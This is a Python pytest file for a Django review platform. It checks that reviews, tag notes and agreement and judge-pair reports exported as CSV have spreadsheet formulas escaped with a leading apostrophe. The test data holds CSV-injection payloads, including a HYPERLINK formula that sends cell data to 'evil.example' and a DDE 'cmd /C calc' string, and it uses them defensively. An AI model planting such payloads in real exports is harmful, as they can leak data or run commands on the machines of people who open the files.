"""Formulas planted in what reaches a review-layer CSV export come out as text (benchmark.csv_tables):
the campaign's reviews (page and command), the workbench's disagreement tags, the agreement report
and the judge-vs-judge report. Each test stores the attacker's text the way a user would and reads
the download back with the csv module, so an export that bypassed the writer fails here."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from judge.models import Rubric
from review.assignment.services import campaign_assign
from review.campaigns.services import campaign_create
from review.models import Assignment, Campaign
from tests.agreement.lab.client import computed_get
from tests.agreement.report.test_campaign import make_campaign
from tests.judge.factories import make_judgment, make_stepwise_item, make_task, rubric
from tests.review.factories import full_review_post, make_paper, make_rubric

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
NEUTRALISED = "'" + PAYLOAD


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def _rename_dimension(rub: Rubric, key: str, name: str) -> None:
    """What an admin's rubric (or an imported one) may call a criterion."""
    dims = [{**d, "name": name} if d["key"] == key else d for d in rub.dimensions]
    Rubric.objects.filter(pk=rub.pk).update(dimensions=dims)


def test_it_neutralises_a_reviewers_formula_in_the_reviews_export(client_for, admin_user, reviewer) -> None:
    campaign = campaign_create(
        name="formulas", rubric=make_rubric(), artifacts=[make_paper()], reviewers=[reviewer], reviewers_per_item=1
    )
    campaign_assign(campaign=campaign)
    mine = Assignment.objects.get(campaign=campaign, reviewer=reviewer)
    post = full_review_post() | {"just_overall": PAYLOAD, "just_clarity": "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert client_for(reviewer).post(reverse("review:submit", args=[mine.code]), post).status_code == 302
    page = client_for(admin_user).get(reverse("review:campaign_export", args=[campaign.code, "csv"]))
    [row] = _rows(page.content.decode())
    assert row["overall_justification"] == NEUTRALISED
    assert row["clarity_justification"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["overall"] == "7"  # scores stay numbers
    out = io.StringIO()
    call_command("export_reviews", "--campaign", "formulas", stdout=out)
    [row] = _rows(out.getvalue())
    assert row["overall_justification"] == NEUTRALISED


def test_it_neutralises_a_formula_in_a_tag_note_of_the_tags_export(client_for, admin_user) -> None:
    campaign = make_campaign()
    client = client_for(admin_user)
    item = campaign.items.first()
    url = f"/agreement/{campaign.code}/disagreements/{item.code}/tag"
    assert client.post(url, {"criterion": "overall", "cause": "other", "note": PAYLOAD}).status_code == 302
    [row] = _rows(client.get(reverse("agreement:tags_export", args=[campaign.code, "csv"])).content.decode())
    assert row["note"] == NEUTRALISED and row["criterion_key"] == "overall"


def test_it_neutralises_formulas_in_the_agreement_report(client_for, admin_user) -> None:
    campaign = make_campaign()
    _rename_dimension(campaign.rubric, "overall", PAYLOAD)
    # The campaign's name rides in the provenance line's JSON: a comma in it must not open a new cell.
    Campaign.objects.filter(pk=campaign.pk).update(name="study, " + PAYLOAD)
    url = reverse("agreement:download", args=[campaign.code, "csv"]) + "?bootstrap=0"
    body = client_for(admin_user).get(url).content.decode()
    records = list(csv.reader(io.StringIO(body)))
    provenance = records[0]
    assert len(provenance) == 1 and provenance[0].startswith("# pairing=")
    assert "study, " + json.dumps(PAYLOAD)[1:-1] in provenance[0]
    rows = [dict(zip(records[1], r, strict=True)) for r in records[2:]]
    criteria = {r["criterion"] for r in rows}
    assert NEUTRALISED in criteria and PAYLOAD not in criteria
    assert not [cell for r in records[1:] for cell in r if cell.startswith(("=", "+", "@"))]
    assert any(r["estimate"].startswith("-") for r in rows)  # negative statistics stay numbers


def test_it_neutralises_a_formula_in_the_judge_pair_report(client_for, researcher) -> None:
    idea = rubric("idea")
    _rename_dimension(idea, "overall", PAYLOAD)
    for i, (a, b) in enumerate([(8, 7), (6, 6), (5, 7), (9, 8), (4, 6), (7, 5)]):
        item = make_stepwise_item(make_task(f"iclr2025_f{i}"), f"model-{i % 2}", "idea")
        keys = [d["key"] for d in idea.dimensions if d.get("kind", "score") == "score"]
        make_judgment(item, idea, "anthropic:claude-x", dict.fromkeys(keys, a))
        make_judgment(item, idea, "google:gemini-x", dict.fromkeys(keys, b))
    url = reverse("agreement:lab_judge_pair_download", args=["idea", "csv"])
    response = computed_get(client_for(researcher), url)  # the lab computes off the request (202, then 200)
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    criteria = {r["criterion"] for r in rows}
    assert NEUTRALISED in criteria and PAYLOAD not in criteria
